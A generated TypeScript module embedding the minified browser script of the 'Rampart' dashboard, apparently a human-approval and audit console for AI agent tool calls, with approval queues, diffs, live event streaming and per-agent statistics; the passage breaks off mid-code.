// Made from src/http/dashboard/client by `npm run build` or `node scripts/embed.mjs`: edit that.
// deno-fmt-ignore-file
// deno-lint-ignore-file
/** The script of the dashboard, bundled. */
export const SCRIPT: string = `(()=>{class y extends Error{status;code;constructor(e,t,s){super(s);this.status=e,this.code=t}}function ye(){return sessionStorage.getItem("rampart-session")}function j(){return ye()!==null}function ve(){let e=document.querySelector('meta[name="rampart-session"]');if(e===null)return!1;return sessionStorage.setItem("rampart-session",e.getAttribute("content")??""),e.remove(),location.replace("/dashboard"),!0}var we=()=>{};function be(e){we=e}function ie(){sessionStorage.removeItem("rampart-session"),we()}var se=!0;for(let e of["pointerdown","keydown"])addEventListener(e,()=>se=!0,{capture:!0,passive:!0});function bt(e){let t={...e,"x-rampart-session":ye()??""};if(se)return se=!1,t;return{...t,"x-rampart-background":"1"}}var oe=()=>Promise.resolve(!1);function Ee(e){oe=e}function Et(e,{method:t="GET",body:s=""}){if(t==="GET")return!1;if(e==="/v1/rules/preview")return!1;return e.startsWith("/v1/rules")||/"scope":"always"|"persist":true/.test(s)}async function K(e,t={}){if(Et(e,t)&&!await oe(!1))throw fe();try{return await ge(e,t)}catch(s){if(!(s instanceof y)||s.code!=="step_up_required")throw s;if(!await oe(!0))throw fe();return await ge(e,t)}}function fe(){return new y(0,"step_up_required","Without the code of a terminal nothing is kept")}async function ge(e,t){let s=await fetch(e,{...t,headers:bt(t.headers??{}),credentials:"same-origin",cache:"no-store",redirect:"error"}).catch((i)=>{if(t.signal?.aborted)throw i;throw new y(0,"unreachable","The server does not answer")});if(s.ok)return s;if(s.status===401)ie();let o=await s.json().catch(()=>({}));throw new y(s.status,o.code??"unknown",o.detail??\`The server answered \${s.status}\`)}async function m(e,t={},s){return await(await K(e+St(t),s===void 0?{}:{signal:s})).json()}async function k(e,t,s){return await(await K(e,{method:"POST",body:JSON.stringify(t),headers:{"content-type":"application/json"},...s===void 0?{}:{signal:s}})).json()}function St(e){let t=Object.entries(e).flatMap(([s,o])=>o===void 0||o===null||o===""?[]:[[s,String(o)]]);return t.length===0?"":\`?\${new URLSearchParams(t)}\`}function v(){return performance.timeOrigin+performance.now()}var Tt=new Set(["value","checked","disabled","hidden","open","indeterminate"]);function n(e,t={},...s){let o=document.createElement(e);return Se(o,t),G(o,s),o}function w(e,t={},...s){let o=document.createElementNS("http://www.w3.org/2000/svg",e);return Se(o,t),G(o,s),o}function Se(e,t){for(let[s,o]of Object.entries(t))if(typeof o==="function")e.addEventListener(s.slice(2),o);else if(Tt.has(s))Object.assign(e,{[s]:o});else if(o===!0)e.setAttribute(s,"");else if(o!==!1&&o!==null&&o!==void 0)e.setAttribute(s,String(o))}function G(e,t){for(let s of t){if(s===null||s===void 0||s===!1)continue;if(Array.isArray(s))G(e,s);else e.append(typeof s==="object"?s:String(s))}}function u(e,...t){e.replaceChildren(),G(e,t)}var V=new Set;function Te(e){if(V.size===0)requestAnimationFrame(()=>{let t=V;V=new Set;for(let s of t)s()});V.add(e)}function xe({target:e}){return e instanceof HTMLElement&&(e.isContentEditable||/^(?:INPUT|TEXTAREA|SELECT)$/.test(e.tagName))&&!/^(?:checkbox|radio)$/.test(e.type??"")}class re{lastId="";#t="";#e="";#s=[];#i;constructor(e){this.#i=e}push(e){let t=this.#t+e,s=t.endsWith("\\r")?t.length-1:t.length,o=t.slice(0,s).split(/\\r\\n|\\r|\\n/);this.#t=o.pop()+t.slice(s);for(let i of o)this.#n(i)}#n(e){if(e==="")return this.#l();let t=e.indexOf(":");if(t===0)return;let s=t<0?e:e.slice(0,t),o=t<0?"":e.slice(t+1).replace(/^ /,"");if(s==="event")this.#e=o;else if(s==="data")this.#s.push(o);else if(s==="id"&&!o.includes("\\x00"))this.lastId=o}#l(){let e={event:this.#e||"message",data:this.#s.join(\`
\`)},t=this.#s.length>0;if(this.#e="",this.#s=[],t)this.#i(e)}}var ke=1000,xt=15000;class Le{state="connecting";#t="";#e=ke;#s=new AbortController;#i=new Set;#n=new Set;start(){this.#s=new AbortController,this.#l(this.#s.signal)}stop(){this.#s.abort()}onEvent(e){return this.#i.add(e),()=>this.#i.delete(e)}onState(e){return this.#n.add(e),e(this.state),()=>this.#n.delete(e)}async#l(e){while(!e.aborted){try{await this.#a(e),this.#r("broken")}catch(t){if(e.aborted)return;let s=t instanceof y?t.status:0;if(this.#r(s===404?"missing":"broken"),s===401||s===404)return}await new Promise((t)=>setTimeout(t,this.#e)),this.#e=Math.min(this.#e*2,xt)}}async#a(e){let t={accept:"text/event-stream"};if(this.#t!=="")t["last-event-id"]=this.#t;let o=(await K("/v1/events/stream",{headers:t,signal:e})).body.pipeThrough(new TextDecoderStream).getReader(),i=new re((r)=>this.#o(r.event,r.data));for(;;){let{done:r,value:a}=await o.read();if(r)return;if(i.push(a),i.lastId!=="")this.#t=i.lastId}}#o(e,t){if(e==="hello")this.#e=ke,this.#r("live");if(["hello","gap","lagged","end"].includes(e))return;let s;try{s=JSON.parse(t)}catch{return}for(let o of this.#i)o(s)}#r(e){if(e===this.state)return;this.state=e;for(let t of this.#n)t(e)}}var C=new Le;var Me=60,kt=4000,Lt=30000,Ae=1000,Mt=32;async function At(){let e=[],t=null;for(let s=0;s<Mt&&e.length<Ae;s++){let o=await m("/v1/approvals",{status:"pending",limit:Ae,after:t});if(e.push(...o.approvals),t=o.next??null,t===null)break}return e}class Ce{list=[];failed;loaded=!1;#t;#e=!1;#s=!1;#i=new Set;start(){C.onEvent(({kind:e,decision:t})=>{if(e==="approval"||t.action==="require_approval")this.soon()}),C.onState(()=>this.soon()),this.refresh()}onChange(e){if(this.#i.add(e),this.loaded)e(this.list);return()=>this.#i.delete(e)}soon(){if(this.#s){this.#e=!0;return}clearTimeout(this.#t),this.#t=setTimeout(()=>void this.refresh(),Me)}async refresh(){if(this.#s){this.#e=!0;return}this.#s=!0;try{let t=await At();this.list=t.sort((s,o)=>s.created_at<o.created_at?-1:1),this.failed=void 0}catch(t){this.failed=t}this.loaded=!0,this.#s=!1;for(let t of this.#i)t(this.list);if(clearTimeout(this.#t),!j())return;let e=this.#e?Me:C.state==="live"?Lt:kt;this.#e=!1,this.#t=setTimeout(()=>void this.refresh(),e)}}var T=new Ce;var Ct={connecting:"Connecting",live:"Live",broken:"Reconnecting",missing:"No live stream"};function Pe(e,t){let s=n("main",{id:"main",tabindex:-1}),o=n("span",{class:"count",hidden:!0}),i=t.map(({name:a,title:c})=>n("a",{href:\`#/\${a}\`},c,a==="approvals"?[" ",o]:null)),r=n("span",{class:"state",role:"status"});return C.onState((a)=>{r.dataset.state=a,u(r,n("span",{class:"dot","aria-hidden":"true"}),Ct[a])}),T.onChange((a)=>{o.hidden=a.length===0,u(o,a.length,n("span",{class:"sr"}," waiting")),document.title=a.length===0?"Rampart":\`(\${a.length}) Rampart\`}),u(e,n("header",{class:"top"},n("a",{class:"brand",href:"#/now"},Pt(),n("span",{},"Rampart")),n("nav",{"aria-label":"Pages"},i),n("div",{class:"tools"},r,_t(),$t())),s),{main:s,current:(a)=>i.forEach((c,d)=>{if(t[d]===a)c.setAttribute("aria-current","page");else c.removeAttribute("aria-current")})}}function Pt(){return w("svg",{viewBox:"0 0 24 24",width:22,height:22,"aria-hidden":"true"},w("path",{class:"mark",d:"M12 1.5 3.5 4.6v6.6c0 5.2 3.5 9.3 8.5 11.3 5-2 8.5-6.1 8.5-11.3V4.6z"}),w("path",{class:"mark-tick",d:"m8 12 2.8 2.8L16 9.4"}))}var ae=["auto","light","dark"];function le(){let e=localStorage.getItem("rampart-theme")??"auto";if(e==="auto")delete document.documentElement.dataset.theme;else document.documentElement.dataset.theme=e}function _t(){let e=n("button",{class:"quiet"}),t=()=>{let s=localStorage.getItem("rampart-theme")??"auto",o=n("span",{class:"half","aria-hidden":"true"});u(e,n("span",{class:"sr"},"Theme: "),o,s)};return e.addEventListener("click",()=>{let s=localStorage.getItem("rampart-theme")??"auto",o=ae[(ae.indexOf(s)+1)%ae.length];localStorage.setItem("rampart-theme",o),le(),t()}),t(),e}function $t(){return n("button",{class:"quiet",onclick:()=>void k("/v1/dashboard/logout",{}).catch(()=>{}).then(ie)},"Log out")}var _e=/(?! )[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Co}\\p{Zl}\\p{Zp}\\p{Zs}\\p{Default_Ignorable_Code_Point}\\u2800]/gu,Rt={"\\n":"\\\\n","\\r":"\\\\r","\\t":"\\\\t"};function $e(e){return Rt[e]??\`\\\\u{\${e.codePointAt(0).toString(16)}}\`}var Ht=[/\\p{Script=Latin}/u,/\\p{Script=Cyrillic}/u,/\\p{Script=Greek}/u,/\\p{Script=Armenian}/u,/\\p{Script=Cherokee}/u];function Re(e){return(e.match(/[\\p{L}\\p{M}\\p{N}]+/gu)??[]).filter((s)=>Ht.filter((o)=>o.test(s)).length>1)}var J=4000,He=2400;function p(e){let t=[],s=0;for(let o of e.matchAll(_e)){if(o.index>s)t.push(e.slice(s,o.index));let i=o[0].codePointAt(0).toString(16).toUpperCase().padStart(4,"0");t.push(n("span",{class:"esc",title:\`U+\${i}\`},$e(o[0]))),s=o.index+o[0].length}return t.push(e.slice(s)),t}function l(e,t=160){if(e.length<=t)return p(e);let s=[...e.slice(0,t*2),...e.slice(-t*2)],o=Math.ceil(t*0.7),i=t-o;return[p(s.slice(0,o).join("")),n("span",{class:"cut"},\` …\${e.length-t} more… \`),p(s.slice(s.length-i).join(""))]}function U(e,t,s=It){let o=n("pre",{class:"code",tabindex:0,role:"region","aria-label":t}),i=n("div",{class:"block"},o),r=q(e);if(r!==null)i.prepend(r);let a=e.length>J?[...e]:[];if(a.length<=J)return u(o,s(e)),i;let c=a.length-J;u(o,s(a.slice(0,He).join("")),n("span",{class:"cut"},\`
… \${c.toLocaleString("en")} more characters …
\`),s(a.slice(a.length-(J-He)).join("")));let d=n("button",{class:"quiet",onclick:()=>{u(o,s(e)),d.remove()}},\`Show all \${a.length.toLocaleString("en")} characters\`);return i.append(d),i}function It(e){return e.split(\`
\`).flatMap((t,s)=>s===0?p(t):[n("span",{class:"esc",title:"U+000A"},"\\\\n"),\`
\`,...p(t)])}function Ot(e){return e.split(\`
\`).flatMap((t,s)=>s===0?p(t):[\`
\`,...p(t)])}function q(e){let t=Re(e).slice(0,5);if(t.length===0)return null;let s=t.map((o)=>[...o].map((i)=>i<="~"?i:\`[U+\${i.codePointAt(0).toString(16).toUpperCase()}]\`).join(""));return n("p",{class:"caution"},n("strong",{},"Caution: "),"letters of several scripts in one word: ",n("code",{},s.join(", ")))}function H(e,t){return U(JSON.stringify(e,null,2)??"null",t,Ot)}var Ie={require_approval:"ask",policy_invalid:"invalid"},Oe={allow:"allow",approved:"allow",used:"allow",loaded:"allow",deny:"deny",denied:"deny",refused:"deny",require_approval:"ask",asked:"ask",pending:"ask",webhook:"ask",log:"log"};function b(e){let t=Object.hasOwn(Oe,e)?Oe[e]:"plain";return n("span",{class:\`badge \${t}\`},p(Object.hasOwn(Ie,e)?Ie[e]:e))}function M(e){let t=new Date(e);if(Number.isNaN(t.getTime()))return n("span",{},p(e));let o=t.toDateString()===new Date(v()).toDateString()?Ne.format(t):\`\${e.slice(0,10)} \${Ne.format(t)}\`;return n("time",{datetime:e,title:e},o)}var Ne=new Intl.DateTimeFormat("en-GB",{timeStyle:"medium"});function De(e){let t=Math.max(0,(v()-Date.parse(e))/1000);if(t<60)return\`\${Math.floor(t)} s ago\`;if(t<3600)return\`\${Math.floor(t/60)} min ago\`;if(t<86400)return\`\${Math.floor(t/3600)} h ago\`;return\`\${Math.floor(t/86400)} d ago\`}function F(e){let t=Math.ceil((Date.parse(e)-v())/1000);if(!(t>0))return"";return\`\${Math.floor(t/60)}:\${String(t%60).padStart(2,"0")}\`}function O(e){if(e===null)return"–";return e<1000?\`\${e} µs\`:\`\${(e/1000).toFixed(e<1e4?1:0)} ms\`}function L(e,...t){return n("div",{class:\`notice \${e}\`,role:e==="bad"?"alert":"status"},t)}function x(e,t){if(e instanceof y&&e.status===404&&e.code==="not_found")return L("info",\`\${t}: this server does not have that. \`,n("span",{class:"muted"},p(e.message)));let s=e instanceof Error?e.message:String(e);return L("bad",n("strong",{},\`\${t}: \`),p(s))}function R(e,...t){return n("div",{class:"empty"},n("p",{class:"empty-title"},e),n("p",{},t))}function f(e,...t){return n("section",{class:"card"},n("h2",{},e),t)}function A(e){return n("dl",{class:"facts"},e.filter(([,t])=>t!==null&&t!==void 0&&t!=="").map(([t,s])=>n("div",{},n("dt",{},t),n("dd",{},s))))}function Nt(e,...t){return n("div",{class:"scroll",tabindex:0,role:"region","aria-label":e},t)}var Dt=new Set(["Seq","Calls","Denied","Asked"]);function B(e,t,s){return Nt(e,n("table",{},n("caption",{class:"sr"},e),n("thead",{},n("tr",{},t.map((o)=>n("th",{scope:"col",class:Dt.has(o)?"num":""},o)))),n("tbody",{},s)))}function P(e){if(e===null||typeof e!=="object")return String(e??"");let{params:t}=e,s=t!==null&&typeof t==="object"?t:e;for(let o of["command","path","file_path","url","query","pattern"])if(typeof s[o]==="string")return s[o];return JSON.stringify(s)}function I(e,t){let s=e.map(({tool:o,path:i,url:r,by:a,action:c,policy:d})=>n("li",{},n("span",{class:\`effect \${o==="delete"?"deny":""}\`},p(o)),n("code",{},l(i??r??"",240)),n("span",{class:"muted"}," by ",l(a,40)),c!==void 0&&c!=="allow"?[" ",b(c)]:null,d?n("span",{class:"muted"}," ",l(d,60)):null));return n("div",{},s.length>0?n("ul",{class:"effects"},s):n("p",{class:"muted"},t?"None: it touches nothing.":"None is known."),t===!1?n("p",{class:"caution"},"Not all of it is known: the call may touch more than this."):null)}function E(e={}){let t=n("div",{...e}),s=0;return{element:t,async load(o,i){let r=++s,a=await o().catch((c)=>x(c,i));if(r===s)u(t,a)}}}function _(e,t,s=!1){return n("label",s?{class:"grow"}:{},n("span",{},e),t)}function N(e,t){let s=n("select",{onchange:()=>t(s.value)},e.map(([o,i])=>n("option",{value:o},i)));return s}function Y(e){let t=n("input",{type:"search",autocomplete:"off",oninput:()=>e(t.value.toLowerCase())});return t}var je={name:"agents",title:"Agents",show(e){let t=E();return u(e,n("h1",{},"Agents"),t.element),t.load(jt,"The agents"),()=>{}}};async function jt(){let e=new Date(v()-86400000).toISOString(),[t,s]=await Promise.all([m("/v1/audit/stats",{since:e}),m("/v1/audit/sessions",{since:e})]);if(t.decisions.by_agent.length===0)return R("No agent has called in 24 hours","Once one does, its calls, denials and questions are counted here.");let{length:o}=s.sessions,i=s.unlisted===0?"Sessions in 24 hours":\`The last \${o} of \${o+s.unlisted} sessions in 24 hours\`;return[f("Agents in 24 hours",Ut(t)),f(i,Ft(s))]}function Ut({decisions:e}){let t=Math.max(1,...e.by_agent.map(({count:s})=>s));return B("Agents",["Agent","Calls","Denied","Asked","Share"],e.by_agent.map(({name:s,count:o,denied:i,asked:r})=>n("tr",{},n("th",{scope:"row"},l(s===""?"(none)":s,60)),n("td",{class:"num"},o.toLocaleString("en")),n("td",{class:i>0?"num deny-text":"num"},i.toLocaleString("en")),n("td",{class:"num"},r===void 0?"–":r.toLocaleString("en")),n("td",{},qt(o/t,o===0?0:i/o)))))}function qt(e,t){let s=n("span",{class:"meter-deny"}),o=n("span",{class:"meter-all"},s);return o.style.width=\`\${Math.max(2,e*100)}%\`,s.style.width=\`\${t*100}%\`,n("span",{class:"meter",role:"img","aria-label":\`\${Math.round(t*100)} % denied\`},o)}function Ft({sessions:e}){return B("Sessions",["Agent","Session","Calls","Denied","Asked","Last call"],e.map(({agent:t,session:s,calls:o,denied:i,asked:r,last:a})=>n("tr",{},n("th",{scope:"row"},l(t,40)),n("td",{},n("code",{},l(s,40))),n("td",{class:"num"},o.toLocaleString("en")),n("td",{class:i>0?"num deny-text":"num"},i.toLocaleString("en")),n("td",{class:"num"},r.toLocaleString("en")),n("td",{},De(a)))))}var Bt=250000,z=400,Ue=2000;function qe(e,t){let[s,o]=[Fe(e),Fe(t)];if(s.length*o.length>Bt)return[...s.map((a)=>({sign:"-",text:a})),...o.map((a)=>({sign:"+",text:a}))];let i=o.length+1,r=new Uint32Array((s.length+1)*i);for(let a=s.length-1;a>=0;a--)for(let c=o.length-1;c>=0;c--)r[a*i+c]=s[a]===o[c]?r[(a+1)*i+c+1]+1:Math.max(r[(a+1)*i+c],r[a*i+c+1]);return Wt(s,o,r)}function Fe(e){return e===""?[]:e.split(\`
\`)}function Wt(e,t,s){let o=t.length+1,i=[],r=0,a=0;while(r<e.length||a<t.length)if(r<e.length&&a<t.length&&e[r]===t[a])i.push({sign:" ",text:e[r]}),r++,a++;else if(a>=t.length||r<e.length&&s[(r+1)*o+a]>=s[r*o+a+1])i.push({sign:"-",text:e[r++]});else i.push({sign:"+",text:t[a++]});return i}function Be(e){let s=(Array.isArray(e.edits)?e.edits:[e]).flatMap((i)=>{if(i===null||typeof i!=="object")return[];let{old_string:r,new_string:a}=i;return typeof r==="string"&&typeof a==="string"?[qe(r,a)]:[]});if(s.length>0)return s;let o=e.content??e.contents??e.file_text;return typeof o==="string"?[qe("",o)]:void 0}var Kt={" ":"","-":"removed: ","+":"added: "},Vt={" ":"same","-":"del","+":"add"};function We(e){let t=n("pre",{class:"code diff",tabindex:0,role:"region","aria-label":"Changes"}),s=(c,d=!1)=>c.map(({sign:h,text:g})=>n("span",{class:Vt[h]},n("span",{class:"sr"},Kt[h]),n("span",{"aria-hidden":"true"},\`\${h} \`),d?p(g):l(g,Ue),\`
\`)),o=n("div",{class:"block"},t);if(e.length<=z&&e.every(({text:c})=>c.length<=Ue))return t.append(...s(e)),o;let i=z/2,r=e.length-z;t.append(...s(e.slice(0,r>0?i:z)),...r>0?[n("span",{class:"cut"},\`… \${r} more lines …
\`),...s(e.slice(-i))]:[]);let a=n("button",{class:"quiet",onclick:()=>{t.replaceChildren(...s(e,!0)),a.remove()}},e.length===1?"Show all of the line":\`Show all of \${e.length} lines\`);return o.append(a),o}function ce(e,t){return n("ul",{class:t===void 0?"":"tree","aria-label":t},e.map(({line:s,below:o})=>n("li",{},n("span",{class:"leaf"},s),o.length>0?ce(o):null)))}var Ke={part:"runs",effect:"touches",span:"together"};function Ve(e,t){let s=Object.hasOwn(Ke,e)?Ke[e]:e;return[n("span",{class:"kind"},l(s,30))," ",n("code",{},l(t,300))]}function de(e){let t=(s,o)=>({line:Ve(e[s].kind,e[s].text),below:o>8?[]:Q(e,s).map((i)=>t(i,o+1))});return ce(Q(e,void 0).map((s)=>t(s,0)),"Parts of the call")}function Q(e,t){return e.flatMap((s,o)=>(s.of??void 0)===t?[o]:[])}function Ge({subjects:e,answer:t}){let s=e.map(({kind:i,label:r,of:a})=>({kind:i,text:r,of:a??null})),o=(i,r)=>{let c=(t.trace??[]).filter(({subject:h,held:g})=>h===i&&g).map(({action:h,rule:g,reasons:S})=>({line:[b(h)," ",n("span",{},l(g,80)),g===t.rule?n("strong",{class:"decides"}," decides"):null],below:S.map((W)=>({line:n("span",{class:"muted"},l(W,240)),below:[]}))})),d={line:n("span",{class:"muted"},s[i].kind==="part"?"no rule: the default counts":"no rule objects"),below:[]};return{line:Ve(s[i].kind,s[i].text),below:r>8?[]:[...c.length>0?c:[d],...Q(s,i).map((h)=>o(h,r+1))]}};return ce(Q(s,void 0).map((i)=>o(i,0)),"How it was decided")}function Ye(e,t){let{message:s,policy:o,rule:i,tool:r,agent:a,session:c}=e;return n("article",{class:"ask"},n("header",{},n("p",{class:"who"},b(e.status)," ",n("strong",{},l(a,80))," wants ",n("strong",{},l(r,80)),n("span",{class:"muted"}," in session ",l(c,60))),n("h2",{class:"asks-why"},l(s,400)),i===null?null:n("p",{class:"muted"},"Rule ",n("code",{},l(i,120))," of ",n("a",{href:"#/policies"},l(o??"",120))),q(\`\${a} \${c} \${r}\`)),Gt(e),t?.element,Qt(e),t?.bar)}function Gt(e){let{params:t}=e,s=["command","path","file_path","url"].filter((a)=>typeof t[a]==="string"),o=Be(t),i=new Set([...s,...o===void 0?[]:Jt]),r=Object.fromEntries(Object.entries(t).filter(([a])=>!i.has(a)));return[s.map((a)=>f(Je[a],U(t[a],Je[a]))),o===void 0?null:f("Change",o.map(We)),Object.keys(r).length>0?f(s.length+(o?.length??0)>0?"Other parameters":"Parameters",H(r,"Parameters")):null,Yt(e)]}var Je={command:"Command",path:"Path",file_path:"Path",url:"URL"},Jt=["edits","old_string","new_string","content","contents","file_text"];function Yt(e){let{parts:t,effects:s,effects_complete:o}=e;if(t!==void 0&&s!==void 0)return f("What it does",t.length>0?de(t):null,n("h3",{},"Touches"),I(s,o),e.candidates_omitted?n("p",{class:"caution"},"Some of what its names may stand for is left out."):null);let i=E();return i.load(()=>zt(e),"What it does"),f("What it does",i.element)}async function zt({agent:e,session:t,tool:s,params:o,cwd:i}){let{subjects:r,answer:a}=await k("/v1/policy/explain",{agent:e,session:t,tool:s,params:o,...i===null?{}:{cwd:i}});return[de(r.map(({kind:c,label:d,of:h})=>({kind:c,text:d,of:h??null}))),n("h3",{},"Touches"),I(a.effects,a.effects_complete)]}function Qt(e){let{answers:t=[]}=e;return f("About this question",A([["Asked",M(e.created_at)],["Working directory",e.cwd===null?null:n("code",{},l(e.cwd,300))],["Credential",n("code",{},l(e.principal,80))],["Run",e.run_id===null?null:l(e.run_id,80)],["Tool call",e.tool_call_id===null?null:l(e.tool_call_id,80)],["Callers waiting",e.waiters===void 0?null:String(e.waiters)],["Code",e.code===void 0?null:n("code",{},l(e.code,80))],["People needed",(e.approvers??1)>1?String(e.approvers):null],["Answers",t.length===0?null:t.map(({principal:s,name:o,approved:i,channel:r})=>n("div",{},b(i?"approved":"denied")," ",p(o??s),\` by \${r}\`))],["Decision",e.audit_id===null?null:n("a",{href:\`#/audit/event/\${encodeURIComponent(e.audit_id)}\`},"in the audit trail")],["Id",n("code",{},l(e.id,80))]]))}var Zt=1000,Xt=20;function ze(e,t,s,o){let i=t.size;if(e.length===0)return null;let r=n("input",{type:"checkbox",checked:i>0&&i===e.length,indeterminate:i>0&&i<e.length,"aria-label":"Select all that are listed",onchange:()=>{if(t.clear(),r.checked)for(let c of e.slice(0,Zt))t.add(c);s()}}),a=i===0?\`\${e.length} waiting\`:\`\${i} of \${e.length} selected\`;return[n("label",{class:"check"},r,a),i===0?null:[n("button",{class:"approve",onclick:()=>o(!0)},\`Approve \${i}\`),n("button",{class:"deny",onclick:()=>o(!1)},\`Deny \${i}\`)]]}async function Qe(e,t){try{let{results:o}=await k("/v1/approvals/bulk-resolve",{ids:e,approved:t}),i=o.filter(({error:c})=>c!==null),r=t?"Approved":"Denied",a=i.slice(0,Xt).map(({id:c,error:d})=>\`\${c.slice(0,8)} \${d}\`);return L(i.length===0?"good":"bad",\`\${r} \${o.length-i.length} of \${e.length}.\`,i.length===0?null:[" Not answered: ",p(a.join(", "))])}catch(s){return x(s,"Answering several at once")}}var en=[["once","Once","This call alone"],["session","This session","The same call again in this session"],["run","This run","The same call again, for a while"],["always","Always","A rule in policies/user.yaml"]],Ze={exact:"Exactly this call",flags:"The same program with the same flags",program:"The same program"};class ue{element;bar;#t;#e;#s=n("strong",{class:"left"});#i=n("input",{type:"text",maxlength:500,placeholder:"The agent is told",autocomplete:"off"});#n=n("input",{type:"text",value:"30m",size:6,"aria-label":"For how long"});#l=n("input",{type:"number",min:1,max:1e4,"aria-label":"For how many calls",placeholder:"–"});#a=n("button",{class:"approve big",onclick:()=>this.answer(!0)},"Approve",n("kbd",{},"a"));#o=n("button",{class:"deny big",onclick:()=>this.answer(!1)},"Deny",n("kbd",{},"d"));#r=n("div",{class:"scope-more"});#d=E();#c="once";#u;#f=!1;constructor(e,t){this.#t=e,this.#e=t,this.element=n("section",{class:"card","aria-label":"Your answer"},n("h2",{},"Your answer"),n("fieldset",{class:"scopes"},n("legend",{},"A yes holds for"),en.map(([s,o,i])=>this.#v(s,o,i))),this.#r,n("label",{class:"field"},n("span",{},"Reason, of a no"),this.#i)),this.bar=n("div",{class:"answer-bar",role:"group","aria-label":"Answer"},this.#a,this.#o,n("span",{class:"muted"},"Denied by itself in ",this.#s)),this.tick()}#v(e,t,s){let o=n("input",{type:"radio",name:"scope",checked:e==="once",onchange:()=>this.#h(e)});return n("label",{class:"radio"},o,n("span",{},t,n("small",{},s)))}tick(){u(this.#s,F(this.#t.expires_at)||"0:00")}disable(e){this.#f=e,this.#a.disabled=e,this.#o.disabled=e}answer(e){if(this.#f)return;if(!e){let t=this.#i.value.trim();return this.#e(!1,t===""?{}:{reason:t})}if(this.#c==="always"&&this.#u===void 0){u(this.#r,L("bad","Choose first what is always allowed."),this.#d.element);return}this.#e(!0,this.#p())}#p(){let e=this.#c;if(e==="once")return{};if(e==="always")return{scope:e,generalisation:this.#u};if(e==="session")return{scope:e};let t=Number(this.#l.value);return{scope:e,...this.#n.value.trim()===""?{}:{for:this.#n.value.trim()},...t>0?{calls:t}:{}}}#h(e){if(this.#c=e,this.#u=void 0,e==="run")u(this.#r,n("div",{class:"inline"},n("label",{},n("span",{},"For"),this.#n),n("label",{},n("span",{},"or calls"),this.#l)));else if(e==="always")u(this.#r,this.#d.element),u(this.#d.element,n("p",{class:"muted"},"Looking at the last calls…")),this.#d.load(()=>this.#m(),"What could always be allowed");else u(this.#r)}async#m(){let e=\`/v1/approvals/\${encodeURIComponent(this.#t.id)}/choices\`,{choices:t}=await m(e);return n("fieldset",{class:"choices"},n("legend",{},"Always allow"),t.map((s)=>this.#g(s)))}#g({generalisation:e,text:t,available:s,refused:o,matched:i,admits:r=[]}){let a=Object.hasOwn(Ze,e)?Ze[e]:e;return n("label",{class:\`radio choice\${s?"":" off"}\`},n("input",{type:"radio",name:"generalisation",disabled:!s,onchange:()=>this.#u=e}),n("span",{},n("strong",{},p(a)),n("code",{},l(t,300)),s?null:n("small",{class:"bad"},l(o??"Not here",300)),r.length===0?null:n("small",{class:"bad"},"It would let pass what must be stopped: ",r.slice(0,3).map(({command:c})=>n("code",{},l(c,100)))),i===void 0?null:n("small",{},\`Would have met \${i.count} of the last \${i.of.toLocaleString("en")} calls\`),(i?.examples??[]).slice(0,3).map(({text:c,action:d})=>n("small",{},b(d)," ",n("code",{},l(c,100))))))}}var tn=500,et={name:"approvals",title:"Approvals",show(e,[t]){let s=new tt(e,t);return()=>s.leave()}};class tt{#t=n("ul",{class:"asks"});#e=n("div",{class:"detail"});#s=n("div",{class:"said",role:"status"});#i=n("div",{class:"bar batch"});#n=new Map;#l=[];#a=new Set;#o;#r;#d=0;#c=!1;constructor(e,t){this.#o=t,u(e,n("h1",{},"Approvals"),this.#s,n("div",{class:"split"},n("section",{"aria-label":"Waiting calls"},this.#i,this.#t),this.#e)),this.#l.push(T.onChange((i)=>this.#u(i)));let s=setInterval(()=>this.#S(),1000),o=(i)=>this.#T(i);if(addEventListener("keydown",o),this.#l.push(()=>clearInterval(s),()=>removeEventListener("keydown",o)),t!==void 0)this.#m(t);if(!T.loaded)u(this.#e,n("p",{class:"muted"},"Loading…"));T.refresh()}leave(){for(let e of this.#l)e()}#u(e){let t=new Set(e.map(({id:s})=>s));for(let[s,{element:o}]of this.#n){if(t.has(s))continue;o.remove(),this.#n.delete(s),this.#a.delete(s)}for(let s of e){if(this.#n.has(s.id))continue;let o=this.#f(s);this.#n.set(s.id,o),this.#t.append(o.element)}if(this.#h(),this.#y(),T.failed!==void 0)u(this.#e,x(T.failed,"The approvals"));else if(this.#o===void 0)if(e.length===0)u(this.#e,Xe());else this.#p(e[0].id);else if(!t.has(this.#o)&&this.#r!==void 0&&!this.#c)this.#m(this.#o)}#f(e){let{id:t,tool:s,agent:o,params:i,expires_at:r}=e,a=n("input",{type:"checkbox","aria-label":\`Select \${o}: \${s}\`,onchange:()=>{if(a.checked)this.#a.add(t);else this.#a.delete(t);this.#y()}}),c=n("span",{class:"left"},F(r));c.dataset.until=r;let d=n("a",{href:\`#/approvals/\${encodeURIComponent(t)}\`,onclick:(h)=>this.#v(h,t)},n("span",{class:"ask-head"},n("strong",{},l(o,30))," ",l(s,30),c),n("code",{},l(P(i),110)));return{element:n("li",{},a,d),link:d,box:a,time:c}}#v(e,t){if(e.preventDefault(),this.#p(t),matchMedia("(max-width: 800px)").matches)this.#e.scrollIntoView({block:"start"})}async#p(e){this.#o=e,history.replaceState(null,"",\`#/approvals/\${encodeURIComponent(e)}\`),this.#h(),await this.#m(e)}#h(){for(let[e,{link:t,box:s}]of this.#n){if(e===this.#o)t.setAttribute("aria-current","true");else t.removeAttribute("aria-current");s.checked=this.#a.has(e)}}async#m(e){this.#r=void 0;try{let t=await m(\`/v1/approvals/\${encodeURIComponent(e)}\`);if(this.#o!==e)return;let s=t.status==="pending";this.#r=s?new ue(t,(o,i)=>this.#g(t,o,i)):void 0,u(this.#e,s?null:nn(t),Ye(t,this.#r)),this.#d=performance.now()}catch(t){if(this.#o===e)u(this.#e,x(t,"The approval"))}}async#g(e,t,s){if(this.#c)return;this.#c=!0,this.#r?.disable(!0);try{let o=await k(\`/v1/approvals/\${encodeURIComponent(e.id)}/resolve\`,{approved:t,...s}),i=o.status==="pending"?"Answered, others must too: ":t?"Approved: ":"Denied: ",r=o.rule_id?n("span",{class:"muted"}," Kept as rule ",p(o.rule_id)):null;this.#w(L(t?"good":"info",i,n("code",{},l(P(e.params),100)),r)),this.#b(e.id)}catch(o){let i=o instanceof y&&o.status===410;if(this.#w(x(o,"Your answer")),i)this.#m(e.id);else this.#r?.disable(!1)}this.#c=!1,await T.refresh()}#w(e){u(this.#s,e)}#b(e){let t=[...this.#n.keys()],s=t.indexOf(e),o=t[s+1]??t[s-1];if(this.#n.get(e)?.element.remove(),this.#n.delete(e),this.#o=void 0,o!==void 0)this.#p(o);else 